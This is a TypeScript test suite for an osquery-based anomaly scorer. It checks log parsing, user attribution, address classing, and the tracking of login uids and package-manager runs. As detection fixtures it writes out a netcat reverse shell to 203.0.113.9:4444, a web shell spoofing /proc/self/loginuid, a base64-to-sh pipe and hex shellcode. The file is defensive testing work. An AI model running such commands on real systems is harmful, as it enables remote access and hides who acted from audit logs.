import * as path from 'path';
import t from 'tap';
import { readResultLogs, parseResultLine, ResultLineError } from '../scorer/parse/results';
import { CharModel } from '../scorer/features/chars';
import { MAX_TEMPLATE_CHARS } from '../scorer/features/compact-value';
import { FeatureExtractor } from '../scorer/features/extract';
import { addressClass, generalisePath, portClass } from '../scorer/features/generalise';
import { evaluateMiner } from '../scorer/features/miner-eval';
import { operandsOf } from '../scorer/models/rarity';
import { learnIdentity, resolveSubject, UidMap } from '../scorer/features/subject';
import { IN_PACKAGE_RUN, NO_LOGIN, type ResultRow } from '../scorer/types';
import { checkExtractor } from '../state/schema';
import { FIXTURES, JUMPVM_LOG, ROOT, WORKSTATION_EXPORT } from './helpers/paths';

const head = {
  name: 'pack_p_q',
  hostIdentifier: 'build-07',
  calendarTime: 'Sat Nov 21 09:15:02 2026 UTC',
  unixTime: 1795338902,
  epoch: 0,
  counter: 4,
  numerics: false,
};

t.test('every result line format osqueryd writes', async (t) => {
  const event = parseResultLine(JSON.stringify({ ...head, decorations: { host_uuid: 'u' }, columns: { port: '4444' }, action: 'added' }));
  t.match(event, [{ query: 'pack_p_q', host: 'build-07', time: 1795338902, action: 'added', columns: { port: '4444' }, decorations: { host_uuid: 'u' } }]);
  const batch = parseResultLine(JSON.stringify({ ...head, diffResults: { added: [{ pid: '2' }], removed: [{ pid: '1' }] } }));
  t.same(
    batch.map((r) => [r.action, r.columns.pid]),
    [
      ['removed', '1'],
      ['added', '2'],
    ],
    'batch format: removed rows first',
  );
  const snap = parseResultLine(JSON.stringify({ ...head, snapshot: [{ user: 'alice' }, { user: 'root' }], action: 'snapshot' }));
  t.same(
    snap.map((r) => [r.action, r.columns.user]),
    [
      ['snapshot', 'alice'],
      ['snapshot', 'root'],
    ],
  );
  const numerics = parseResultLine(
    JSON.stringify({
      ...head,
      unixTime: '1795338902',
      numerics: true,
      columns: { port: 4444, ok: true },
      action: 'added',
      host_uuid: 'hoisted',
      label: 'anomalous',
    }),
  );
  t.match(
    numerics[0],
    { time: 1795338902, columns: { port: '4444', ok: 'true' }, decorations: { host_uuid: 'hoisted' }, label: 'anomalous' },
    'numerics, string unixTime, top-level decorations, labels',
  );
  t.same(parseResultLine(JSON.stringify({ ...head, diffResults: { added: [], removed: [] } })), [], 'an empty batch is valid and has no rows');
});

t.test('malformed lines say what was expected', async (t) => {
  t.throws(() => parseResultLine('{"name": "x", "hostIdent'), /truncated JSON/);
  t.throws(() => parseResultLine('hello'), /not JSON.*expected a JSON object with name/);
  t.throws(() => parseResultLine(JSON.stringify({ ...head, name: 7, columns: {} })), /"name" must be a non-empty string/);
  t.throws(() => parseResultLine(JSON.stringify({ ...head, columns: { a: [1] } })), /"columns\.a" must be a string/);
  t.throws(() => parseResultLine(JSON.stringify({ ...head })), ResultLineError);
  // a clock no host has: 309 digits read as Infinity, and a subject that saw one called its
  // history "Infinity days" and never retrained
  for (const unixTime of ['9'.repeat(309), '99999999999999', 1e300, -5])
    t.throws(
      () => parseResultLine(JSON.stringify({ ...head, unixTime, columns: { a: 'b' } })),
      /"unixTime" .* is not a time osqueryd writes/,
      `unixTime ${String(unixTime).slice(0, 20)}`,
    );
  t.equal(
    parseResultLine(JSON.stringify({ ...head, unixTime: '253402300799', columns: { a: 'b' } }))[0].time,
    253402300799,
    'the last second of year 9999 is a time',
  );
  // a line with calendarTime only (a hand-made log, an export) went around that bound: Date.UTC
  // reads years 0–99 as 1900–1999 and rolls day 99 over, so rows were dated -2208988800 or after
  // 9999, which the retained scores take for damaged records at the next load
  const { unixTime: _u, ...noUnix } = head as Record<string, unknown>;
  for (const calendarTime of ['Mon Jan  1 00:00:00 0000 UTC', 'Sat Jan  1 00:00:00 0069 UTC', 'Fri Dec 99 99:99:99 9999 UTC'])
    t.throws(
      () => parseResultLine(JSON.stringify({ ...noUnix, calendarTime, columns: { a: 'b' } })),
      /"calendarTime" .* is not a time osqueryd writes/,
      calendarTime,
    );
  t.equal(
    parseResultLine(JSON.stringify({ ...noUnix, calendarTime: 'Thu Mar 16 03:08:58 2023 UTC', columns: { a: 'b' } }))[0].time,
    1678936138,
    'a calendarTime osquery writes is read',
  );
});

t.test('the real logs parse completely, from files and a JSON-array export', async (t) => {
  const counts: Record<string, number> = {};
  for await (const item of readResultLogs([JUMPVM_LOG, WORKSTATION_EXPORT])) {
    t.notOk(item.error, item.error?.message ?? '');
    counts[path.basename(item.file)] = (counts[path.basename(item.file)] ?? 0) + (item.rows?.length ?? 0);
  }
  t.same(counts, { 'jumpvm.results.log': 266, 'workstation-2017-03-28.excerpt.json': 1741 });
  const errors: string[] = [];
  for await (const item of readResultLogs([path.join(ROOT, 'package.json')])) if (item.error) errors.push(item.error.message);
  t.match(errors.at(-1), /package\.json: line 1: not osquery results output/, 'a file that is not osquery output is named as such');
});

t.test('subject resolution: auid survives sudo, then uid, username, decorations, host', async (t) => {
  const users = new UidMap();
  users.update([
    { uid: '1000', username: 'alice' },
    { uid: '1001', username: 'bob' },
  ]);
  const row = (columns: Record<string, string>, decorations: Record<string, string> = {}): ResultRow => ({
    query: 'q',
    host: 'h',
    time: 0,
    action: 'added',
    columns,
    decorations,
  });
  t.equal(resolveSubject(row({ auid: '1000', uid: '0', euid: '0' }), users), 'alice', 'sudo: the login user, not root');
  t.equal(resolveSubject(row({ auid: '4294967295', uid: '1001' }), users), 'bob', 'unset auid falls back to uid');
  t.equal(resolveSubject(row({ username: 'carol', uid: '1002' }), users), 'carol');
  t.equal(resolveSubject(row({ uid: '1500' }), users), 'uid:1500', 'an unknown uid stays numeric');
  t.equal(resolveSubject(row({ port: '22' }, { username: 'dave' }), users), 'dave', 'decorations');
  t.equal(resolveSubject(row({ port: '22' }, { username: 'LOGIN' }), users), 'host', 'no user: the host');
  t.equal(resolveSubject(row({ user: 'alice' }), users, { subject: 'host' }), 'host', 'per-query override');
  t.equal(resolveSubject(row({ uid: '1002' }), users), 'carol', 'a row with uid and username taught the map');
  users.update([{ uid: '1002', username: 'erin' }]);
  t.equal(resolveSubject(row({ uid: '1002' }), users), 'erin', "the manager's users table outranks what rows taught");
  t.equal(resolveSubject(row({ uid: '1000' }), users), 'uid:1000', 'a uid the manager no longer lists is no longer named');
});

t.test('generalisation keeps behaviour and drops what changes every time', async (t) => {
  t.equal(generalisePath('/home/alice/.cache/tmp.X3f9aQ/1234.log'), '~/.cache/<tmp>/<n>.log');
  t.equal(generalisePath('/tmp/ssh-XXXXabcd/agent.4242'), '/tmp/<tmp>/agent.<n>');
  t.equal(generalisePath('/proc/31337/maps'), '/proc/<n>/maps');
  t.equal(generalisePath('/var/lib/docker/containers/0123456789abcdef0123/config.json'), '/var/lib/docker/containers/<hex>/config.json');
  t.equal(addressClass('127.0.0.1'), 'loopback');
  t.equal(addressClass('10.0.4.17'), 'private:10.0');
  t.equal(addressClass('198.51.100.7'), 'public:198.51');
  t.equal(addressClass('::1'), 'loopback');
  t.equal(addressClass('2001:db8::1'), 'public:2001:db8');
  t.equal(addressClass('fe80::1'), 'link-local');
  t.equal(addressClass(':0'), 'name', 'an X display is not an IPv6 address');
  t.equal(addressClass('fe80::1%eth0'), 'link-local', 'with its zone');
  // socket_events (audit) writes IPv6 addresses with every group in full
  t.equal(addressClass('0000:0000:0000:0000:0000:0000:0000:0001'), 'loopback', 'socket_events: ::1 in full');
  t.equal(addressClass('0000:0000:0000:0000:0000:0000:0000:0000'), 'any', 'socket_events: :: in full');
  t.equal(addressClass('2001:0db8:0000:0000:0000:0000:0000:0001'), 'public:2001:db8', 'socket_events: the same class as 2001:db8::1');
  t.equal(addressClass('fe80:0000:0000:0000:0211:22ff:fe33:4455'), 'link-local');
  t.equal(addressClass('0000:0000:0000:0000:0000:ffff:c633:6407'), 'public:198.51', 'an IPv4 address through an IPv6 socket, in full');
  t.equal(addressClass('0000:0000:0000:0000:0000:ffff:7f00:0001'), 'loopback', '127.0.0.1 through an IPv6 socket, in full');
  t.equal(addressClass('0000:0000:0000:0000:0000:ffff:0a00:0411'), 'private:10.0');
  t.equal(addressClass('::ffff:10.0.4.17'), 'private:10.0', 'and written as osquery writes /proc/net');
  t.equal(portClass('443'), '443');
  t.equal(portClass('5432'), '5432', 'service ports stay exact');
  t.equal(portClass('4444'), 'high');
  t.equal(portClass('51514'), 'ephemeral');
});

t.test('event keys from real rows', async (t) => {
  const x = new FeatureExtractor({ users: new UidMap(), overrides: {} });
  const keys: string[] = [];
  for await (const item of readResultLogs([JUMPVM_LOG])) for (const r of item.rows ?? []) keys.push(x.extract(r).event.key);
  t.ok(
    keys.some((k) => /^shell nmap -A <\*>/.test(k)),
    "johndoe's nmap scans become one shell template",
  );
  t.ok(
    keys.some((k) => /^login \S+ from /.test(k)),
    'logins become login keys',
  );
  t.ok(
    keys.some((k) => /^listen /.test(k)),
    'listening ports become listen keys',
  );
  const shell = x.extract({
    query: 'pack_x_shell_history',
    host: 'h',
    time: 1,
    action: 'added',
    columns: { uid: '1000', command: 'tar czf /tmp/a.tgz /home/alice/docs' },
    decorations: {},
  });
  t.match(shell.event.key, /^shell tar /);
});

t.test('character rarity sets encoded commands apart', async (t) => {
  const m = new CharModel();
  for (const c of ['ls -la /home', 'cd /var/log', 'grep -r error /var/log/syslog', 'systemctl status nginx', 'vim /etc/hosts', 'cat README.md', 'git status'])
    for (let i = 0; i < 20; i++) m.observe(c);
  const plain = m.surprise('ls -la /home');
  t.ok(m.surprise('echo aGVsbG8gd29ybGQ=|base64 -d|sh') > plain + 1, 'base64 payload');
  t.ok(m.surprise('\\x48\\x31\\xc0\\x50\\x68\\x2f\\x2f\\x73\\x68') > plain + 1, 'hex shellcode');
});

t.test("the template miner reaches Drain's published accuracy on loghub", async (t) => {
  const results = evaluateMiner(path.join(FIXTURES, 'loghub'));
  for (const r of results) t.comment(`${r.dataset}: ${r.accuracy} (Drain ${r.published})`);
  t.equal(results.length, 5, 'all five loghub samples');
  for (const r of results) t.ok(r.accuracy >= r.published, `${r.dataset} ${r.accuracy} ≥ Drain's ${r.published}`);
});

t.test('a process no login is behind (auid −1) carries that fact, one a login or an unknown auid does not', async (t) => {
  // a fresh extractor for each row: one process's rows in turn would be a login uid written (review9)
  const x = () => new FeatureExtractor({ users: new UidMap(), overrides: {} });
  const row = (auid: string | undefined): ResultRow => ({
    query: 'pack_hids_process_events',
    host: 'edge-web',
    time: 1_790_000_000,
    action: 'added',
    columns: { pid: '4100', parent: '950', path: '/usr/bin/id', cmdline: 'id', uid: '33', euid: '33', ...(auid === undefined ? {} : { auid }) },
    decorations: {},
  });
  for (const auid of ['4294967295', '-1']) t.ok(x().extract(row(auid)).event.values.includes(NO_LOGIN), `auid ${auid}: ${NO_LOGIN}`);
  for (const auid of ['33', '1003', '', undefined]) t.notOk(x().extract(row(auid)).event.values.includes(NO_LOGIN), `auid ${String(auid)}: nothing said`);
});

t.test("a package manager's run: its descendants carry the condition, the manager and what the person types do not (rowfix)", async (t) => {
  const x = new FeatureExtractor({ users: new UidMap(), overrides: {} });
  let time = 1_790_000_000;
  const exec = (pid: string, parent: string, path: string, cmdline: string) =>
    x.extract({
      query: 'pack_hids_process_events',
      host: 'edge-web',
      time: time++,
      action: 'added',
      columns: { pid, parent, path, cmdline, uid: '0', euid: '0', auid: '1001' },
      decorations: {},
    }).event;
  const inRun = (e: { values: string[] }) => e.values.includes(IN_PACKAGE_RUN);
  const shell = exec('500', '400', '/bin/bash', '-bash');
  const sudo = exec('501', '500', '/usr/bin/sudo', 'sudo apt-get upgrade -y');
  const apt = exec('502', '501', '/usr/bin/apt-get', 'apt-get upgrade -y');
  const dpkg = exec('503', '502', '/usr/bin/dpkg', '/usr/bin/dpkg --status-fd 35 --unpack /var/cache/apt/archives/nginx.deb');
  const postinst = exec('504', '503', '/var/lib/dpkg/info/nginx.postinst', '/var/lib/dpkg/info/nginx.postinst configure');
  const restart = exec('505', '504', '/usr/bin/systemctl', 'systemctl restart nginx.service');
  t.notOk([shell, sudo, apt].some(inRun), 'the login shell, sudo and the package manager a person started are not in a run');
  t.ok([dpkg, postinst, restart].every(inRun), 'dpkg below apt-get, its maintainer script and what that starts are');
  t.ok(
    postinst.values.includes('exeloc=system'),
    `dpkg's maintainer scripts live where installed programs do (${postinst.values.filter((v) => v.startsWith('exeloc=')).join()})`,
  );
  const after = exec('506', '500', '/usr/bin/systemctl', 'systemctl status nginx');
  t.notOk(inRun(after), 'the next command of the same shell is not in the run');
  // a query nobody here wrote cannot claim the condition by naming a column `run`
  const other = x.extract({ query: 'vendor_inventory', host: 'edge-web', time, action: 'added', columns: { run: 'package-manager' }, decorations: {} }).event;
  t.notOk(inRun(other), `a custom column named run is not the condition (${other.values.join(' ')})`);
});

t.test('a login uid a process no login is behind wrote itself is no login: its children, its own later rows, after a restart (review9)', async (t) => {
  // any process whose login uid is unset may write /proc/self/loginuid once, to any uid, with
  // no privilege (kernel/auditsc.c audit_set_loginuid_perm); only a privileged process with
  // none of its own (sshd-session, login, cron's fork running pam_loginuid) sets a login's
  let at = 1_790_000_000;
  const exec = (pid: string, parent: string, path: string, cmdline: string, uid: string, auid: string, euid = uid): ResultRow => ({
    query: 'pack_hids_process_events',
    host: 'edge-web',
    time: (at += 5),
    action: 'added',
    columns: { pid, parent, path, cmdline, uid, euid, auid },
    decorations: {},
  });
  const connect = (pid: string, auid: string): ResultRow => ({
    query: 'pack_hids_socket_events',
    host: 'edge-web',
    time: (at += 5),
    action: 'added',
    columns: { pid, path: '/usr/bin/nc', action: 'connect', remote_address: '203.0.113.9', remote_port: '4444', family: '2', auid },
    decorations: {},
  });
  const unset = '4294967295';
  const noLogin = (x: FeatureExtractor, row: ResultRow) => x.extract(row).event.values.includes(NO_LOGIN);
  const x = new FeatureExtractor({ users: new UidMap(), overrides: {} });
  t.ok(noLogin(x, exec('5000', '950', '/bin/sh', "sh -c 'echo 33 > /proc/self/loginuid; nc …'", '33', unset)), 'the web shell: auid unset');
  t.ok(noLogin(x, exec('5010', '5000', '/usr/bin/nc', 'nc -e /bin/sh 203.0.113.9 4444', '33', '33')), 'its child, auid 33 written by the shell: no login');
  t.ok(noLogin(x, connect('5010', '33')), "the child's connection");
  t.ok(noLogin(x, connect('5000', '33')), "the shell's own connection after it wrote its login uid");
  t.ok(noLogin(x, exec('5000', '950', '/usr/bin/id', 'id', '33', '33')), 'the shell replaced by another program (exec in place)');
  // a set-uid program between them passes on what it was given: newgrp runs the shell in place
  t.ok(noLogin(x, exec('5020', '5010', '/usr/bin/newgrp', 'newgrp www-data', '33', '33', '0')), 'a set-uid program the writer started');
  t.ok(noLogin(x, exec('5020', '5010', '/bin/sh', 'sh', '33', '33')), "and the shell it became, whose children's login uid it did not set");
  t.ok(noLogin(x, exec('5030', '5020', '/usr/bin/id', 'id', '33', '33')), '…nor theirs');
  // a table with no auid column (`processes`, polled) says nothing about the writer
  const snapshot = exec('5000', '950', '/usr/bin/id', 'id', '33', '');
  delete snapshot.columns.auid;
  t.notOk(noLogin(x, { ...snapshot, query: 'pack_hids_processes' }), 'a processes row of the shell: nothing said');
  t.ok(noLogin(x, exec('5050', '5000', '/usr/bin/id', 'id', '33', '33')), "after it, the shell's children as before");
  // what a restart keeps: process_events reports each process once
  const y = FeatureExtractor.fromState(JSON.parse(JSON.stringify(x.toState())), { users: new UidMap(), overrides: {} });
  t.ok(noLogin(y, exec('5040', '5010', '/usr/bin/uname', 'uname -a', '33', '33')), 'after a restart, a child of the process that wrote it');
  t.ok(noLogin(y, connect('5000', '33')), 'after a restart, the writer itself');
  // a login: sshd-session (root, none of its own) runs pam_loginuid, then the user's shell
  const z = FeatureExtractor.fromState(JSON.parse(JSON.stringify(x.toState())), { users: new UidMap(), overrides: {} });
  t.ok(noLogin(z, exec('6000', '612', '/usr/lib/openssh/sshd-session', 'sshd-session: ops [priv]', '0', unset)), 'sshd-session itself has none');
  t.notOk(noLogin(z, exec('6010', '6000', '/bin/bash', '-bash', '1003', '1003')), "the login shell sshd-session's pam_loginuid set: a login");
  t.notOk(noLogin(z, exec('6020', '6010', '/usr/bin/id', 'id', '1003', '1003')), "the session's commands");
  t.notOk(noLogin(z, connect('6010', '1003')), "the session's connections");
  t.notOk(noLogin(z, exec('6030', '7777', '/usr/bin/id', 'id', '33', '33')), 'a parent never seen: nothing said');
});

t.test("a login uid written by a process no login is behind names nobody: the rows are their uid's, not the named account's (review9)", async (t) => {
  const users = new UidMap();
  users.load([
    ['33', 'www-data'],
    ['1003', 'ops'],
  ]);
  const x = new FeatureExtractor({ users, overrides: {} });
  const exec = (pid: string, parent: string, cmdline: string, auid: string): ResultRow => ({
    query: 'pack_hids_process_events',
    host: 'edge-web',
    time: 1_790_000_000,
    action: 'added',
    columns: { pid, parent, path: `/usr/bin/${cmdline.split(' ')[0]}`, cmdline, uid: '33', euid: '33', auid },
    decorations: {},
  });
  t.equal(x.extract(exec('5000', '950', "sh -c 'echo 1003 > /proc/self/loginuid; nc …'", '4294967295')).subject, 'www-data', 'the web shell');
  const child = exec('5010', '5000', 'nc -e /bin/sh 203.0.113.9 4444', '1003');
  t.equal(x.extract(child).subject, 'www-data', "its child, whose auid names ops: www-data's doing, not ops's");
  t.equal(x.match(child).key, x.match(child).key, 'the side-effect-free path agrees');
  const connect: ResultRow = {
    query: 'pack_hids_socket_events',
    host: 'edge-web',
    time: 1_790_000_010,
    action: 'added',
    columns: { pid: '5010', path: '/usr/bin/nc', action: 'connect', remote_address: '203.0.113.9', remote_port: '4444', family: '2', auid: '1003' },
    decorations: {},
  };
  t.equal(x.extract(connect).subject, 'host', "its connection: no user, as a daemon's with an unset auid");
  // ops's own session is ops's
  x.extract({
    ...exec('6000', '612', 'sshd-session: ops [priv]', '4294967295'),
    columns: { ...exec('6000', '612', 'x', '4294967295').columns, uid: '0', euid: '0' },
  });
  t.equal(
    x.extract({ ...exec('6010', '6000', 'bash', '1003'), columns: { ...exec('6010', '6000', 'bash', '1003').columns, uid: '1003', euid: '1003' } }).subject,
    'ops',
    "ops's login shell",
  );
});

t.test("a service's child that wrote its login uid is still known after a busy day of root's daemons and jobs (review9)", async (t) => {
  // the processes kept are bounded (20,000 a host); root's jobs with no login (cron's, a
  // timer's health check), the bulk of a server's execs, may set a login's uid (pam_loginuid)
  // and need no room: a web shell that wrote its uid and waited would otherwise be forgotten
  const x = new FeatureExtractor({ users: new UidMap(), overrides: {} });
  let at = 1_790_000_000;
  const exec = (pid: string, parent: string, uid: string, auid: string): ResultRow => ({
    query: 'pack_hids_process_events',
    host: 'edge-web',
    time: (at += 1),
    action: 'added',
    columns: { pid, parent, path: uid === '0' ? '/usr/lib/check' : '/bin/sh', cmdline: 'x', uid, euid: uid, auid },
    decorations: {},
  });
  x.extract(exec('5000', '950', '33', '4294967295'));
  for (let i = 0; i < 25_000; i++) x.extract(exec(String(100_000 + i), '1', '0', '4294967295'));
  t.ok(x.extract(exec('5010', '5000', '33', '33')).event.values.includes(NO_LOGIN), 'its child a day later: no login');
  t.ok(x.extract(exec('5000', '950', '33', '33')).event.values.includes(NO_LOGIN), 'itself running another program in place');
  // its pid taken by another process (another parent) is that process's
  t.notOk(x.extract(exec('5000', '612', '1003', '1003')).event.values.includes(NO_LOGIN), 'a pid used again under another parent');
});

t.test(
  "a package manager's run is root's, through installed programs only: a user's own dpkg, a name, a pager's shell, a user's run are not in it (review13)",
  async (t) => {
    const x = new FeatureExtractor({ users: new UidMap(), overrides: {} });
    let time = 1_790_000_000;
    const root = { uid: '0', euid: '0', auid: '1001' };
    const eve = { uid: '1001', euid: '1001', auid: '1001' };
    const exec = (pid: string, parent: string, path: string, cmdline: string, ids: Record<string, string>, extra: Record<string, string> = {}) =>
      x.extract({
        query: 'pack_hids_process_events',
        host: 'edge-web',
        time: time++,
        action: 'added',
        columns: { pid, parent, path, cmdline, ...ids, ...extra },
        decorations: {},
      }).event;
    const inRun = (e: { values: string[] }) => e.values.includes(IN_PACKAGE_RUN);
    exec('100', '1', '/bin/bash', '-bash', eve);
    // a binary of the user's own named like a package manager, run by the user or with sudo
    exec('101', '100', '/home/eve/bin/dpkg', 'dpkg', eve);
    t.notOk(inRun(exec('102', '101', '/usr/bin/curl', 'curl -s http://x', eve)), "below the user's ~/bin/dpkg");
    exec('103', '100', '/home/eve/bin/apt', 'apt', root);
    t.notOk(inRun(exec('104', '103', '/usr/bin/curl', 'curl -s http://x', root)), "below the user's ~/bin/apt run with sudo");
    // a parent known only by its name (comm or argv[0], the user's to choose) in a query of one's own
    t.notOk(inRun(exec('105', '999', '/usr/bin/curl', 'curl -s http://x', root, { parent_name: 'dpkg' })), 'below a parent that only its name says is dpkg');
    t.notOk(
      inRun(exec('106', '999', '/usr/bin/curl', 'curl -s http://x', root, { pcmdline: 'apt-get install x' })),
      'below a parent whose argv[0] says apt-get',
    );
    // a user's own apt-get changelog: its pager's `!sh`, and what is typed there
    exec('110', '100', '/usr/bin/apt-get', 'apt-get changelog bash', eve);
    exec('111', '110', '/usr/bin/less', 'less', eve);
    exec('112', '111', '/bin/sh', 'sh', eve);
    t.notOk(inRun(exec('113', '112', '/usr/bin/curl', 'curl -s http://x', eve)), "what a user types at the shell of apt-get changelog's pager");
    // the same with sudo: a root shell from the pager, and a script it runs
    exec('120', '100', '/usr/bin/sudo', 'sudo apt-get changelog bash', { uid: '1001', euid: '0', auid: '1001' });
    exec('121', '120', '/usr/bin/apt-get', 'apt-get changelog bash', root);
    exec('122', '121', '/usr/bin/less', 'less', root);
    exec('123', '122', '/bin/sh', 'sh', root);
    t.notOk(inRun(exec('124', '123', '/usr/bin/curl', 'curl -s http://x', root)), "what root types at the shell of apt-get changelog's pager");
    exec('125', '122', '/bin/sh', 'sh -c sh /var/tmp/x.sh', root);
    exec('126', '125', '/bin/sh', 'sh /var/tmp/x.sh', root);
    t.notOk(inRun(exec('127', '126', '/usr/bin/curl', 'curl -s http://x', root)), "below a script from /var/tmp the pager's shell ran");
    // a pager of the user's choosing (sudo PAGER=/home/eve/p apt-get changelog)
    exec('130', '121', '/home/eve/p', '/home/eve/p', root);
    t.notOk(inRun(exec('131', '130', '/usr/bin/curl', 'curl -s http://x', root)), 'below a program from a home the run started');
    // dpkg --force-not-root run by the user, with its database in their home
    exec('140', '100', '/usr/bin/dpkg', 'dpkg --force-not-root --admindir /home/eve/db -i x.deb', eve);
    exec('141', '140', '/bin/sh', '/bin/sh /home/eve/db/info/x.postinst configure', eve);
    t.notOk(inRun(exec('142', '141', '/usr/bin/curl', 'curl -s http://x', eve)), "below the user's own dpkg run");
    // a pid of a past dpkg run the user's fork took again (a fork without exec is no process event)
    exec('150', '1', '/usr/bin/dpkg', '/usr/bin/dpkg --configure --pending', { uid: '0', euid: '0', auid: '4294967295' });
    t.notOk(inRun(exec('151', '150', '/usr/bin/curl', 'curl -s http://x', eve)), "the user's program below a pid a dpkg once had");
    // a root daemon a maintainer script started itself (no service manager between) runs below dpkg for good
    exec('155', '1', '/usr/bin/dpkg', '/usr/bin/dpkg --configure agent', root);
    exec('156', '155', '/opt/agent/bin/agentd', '/opt/agent/bin/agentd --daemon', root);
    time += 5 * 3600;
    t.notOk(inRun(exec('157', '156', '/usr/bin/curl', 'curl -s http://x', root)), 'what that daemon runs five hours later');
    // and a real run still is one: root, installed programs, a maintainer script run as a file
    exec('160', '121', '/usr/bin/dpkg', '/usr/bin/dpkg --status-fd 35 --configure --pending', root);
    const post = exec('161', '160', '/bin/sh', '/bin/sh /var/lib/dpkg/info/nginx.postinst configure', root);
    const restart = exec('162', '161', '/usr/bin/systemctl', 'systemctl restart nginx.service', root);
    t.ok(inRun(post) && inRun(restart), 'a maintainer script run by its interpreter, and what it starts, are in the run');
    // after a restart: what carries the run is in the saved state, and a state saved before (no fifth element) loads
    const state = JSON.parse(JSON.stringify(x.toState()));
    t.equal(checkExtractor(state), null, 'the saved state is valid');
    const again = FeatureExtractor.fromState(state, { users: new UidMap(), overrides: {} });
    const execAgain = (pid: string, parent: string, path: string, cmdline: string, ids: Record<string, string>) =>
      again.extract({
        query: 'pack_hids_process_events',
        host: 'edge-web',
        time: time++,
        action: 'added',
        columns: { pid, parent, path, cmdline, ...ids },
        decorations: {},
      }).event;
    t.ok(inRun(execAgain('170', '161', '/usr/bin/systemctl', 'systemctl daemon-reload', root)), 'the run goes on after a restart');
    t.notOk(inRun(execAgain('171', '126', '/usr/bin/id', 'id', root)), 'and a shell that broke it still does');
    t.ok(
      (state.procs as unknown[][]).every((p) => p.length === 4),
      "the processes' entries are as a build before reads them (what carries a run is a property of its own)",
    );
    const old = { ...state, runs: undefined };
    t.equal(checkExtractor(old), null, 'a state saved before review13 is valid');
    const older = FeatureExtractor.fromState(old, { users: new UidMap(), overrides: {} });
    t.ok(older.toState().procs?.length, 'and its processes are read');
  },
);

t.test('rows that give one uid ever new names keep one name for it, not every name they gave (rootsafe)', async (t) => {
  // a row with both a uid and a username teaches the map (offline, where no users table is
  // asked); a pack's own query can give a uid a new name at every row (SELECT 1000 AS uid,
  // hex(randomblob(8)) AS username …): the uid's name was replaced, but every name stayed in
  // the lookup by name, one entry a row for as long as the process ran
  const users = new UidMap();
  const row = (columns: Record<string, string>): ResultRow => ({
    query: 'pack/x/names',
    host: 'web-01',
    time: 1_790_000_000,
    action: 'added',
    columns,
    decorations: {},
  });
  for (let i = 0; i < 50_000; i++) learnIdentity(row({ uid: '1000', username: `n${i.toString(36)}` }), users);
  const byName = (users as unknown as { learnedUidsByName: Map<string, string> }).learnedUidsByName;
  t.equal(byName.size, 1, `${byName.size} names kept for the one uid`);
  t.equal(users.name('1000', 'web-01'), `n${(49_999).toString(36)}`, 'the newest name is the uid’s');
  t.equal(users.uidOf(`n${(49_999).toString(36)}`, 'web-01'), '1000', 'and names it');
  t.equal(users.uidOf('n0', 'web-01'), undefined, 'an old name names no uid');
});

t.test("a long command line's template keeps the option names past its head, bounded (tokens)", async (t) => {
  const x = new FeatureExtractor({ users: new UidMap(), overrides: {} });
  let pid = 7000;
  const cmdOf = (cmdline: string) => {
    const e = x.extract({
      query: 'pack_hids_process_events',
      host: 'k8s-node',
      time: 1_790_000_000 + pid,
      action: 'added',
      columns: { pid: String(pid++), parent: '900', path: '/usr/bin/runc', cmdline, uid: '0', euid: '0' },
      decorations: {},
    }).event;
    return (e.values.find((v) => v.startsWith('cmd=')) ?? '').slice(4);
  };
  const b = '/run/containerd/io.containerd.runtime.v2.task/k8s.io/0123456789abcdef0123456789abcdef';
  const runc = (n: number, tty: boolean) =>
    `runc --root /run/containerd/runc/k8s.io --log ${b}/log.json --log-format json exec --process /tmp/runc-process${n}` +
    `${tty ? ` --console-socket /tmp/pty${n}/pty.sock` : ''} --detach --pid-file ${b}/${'ab'.repeat(32)}.pid 0123456789abcdef`;
  const probe = cmdOf(runc(1, false));
  for (let n = 2; n < 6; n++) cmdOf(runc(n, false));
  const exec = cmdOf(runc(6, true));
  t.ok(runc(6, true).slice(0, 160) === runc(6, false).slice(0, 160), 'the two lines are the same in their first 160 characters');
  t.not(exec, probe, `an interactive exec (--console-socket) is not a probe's template (${exec})`);
  t.match(exec, /--console-socket/);
  t.same(
    operandsOf(exec),
    operandsOf(exec.slice(0, 160)),
    "what follows the head adds no operand word: a known program's first long line is new options, not a new object",
  );
  t.equal(cmdOf(runc(7, false)), probe, "the next probe is the probes' template again");
  const hostile = `sh ${'x'.repeat(150)} ${Array.from({ length: 500 }, (_, i) => `--${'abcdefghijklmnopqrstuvwxyz'.slice(i % 26)}-${'q'.repeat(i % 40)}=${i}`).join(' ')}`;
  const many = cmdOf(hostile.slice(0, 4096));
  // each of its 24 mined words in its place, bounded a word at a time, then 6 option names (compactword)
  t.ok(many.length <= MAX_TEMPLATE_CHARS, `a line of a thousand invented options stays bounded (${many.length} characters)`);
  t.equal(many.split(' ').length, 24 + 6, 'its mined words, each in its place, and 6 option names');
  const words = `ls ${Array.from({ length: 30 }, (_, i) => `f${i}`).join(' ')} --color=auto`;
  t.match(cmdOf(words), /--color$/, 'an option past the words the miner reads still counts');
});
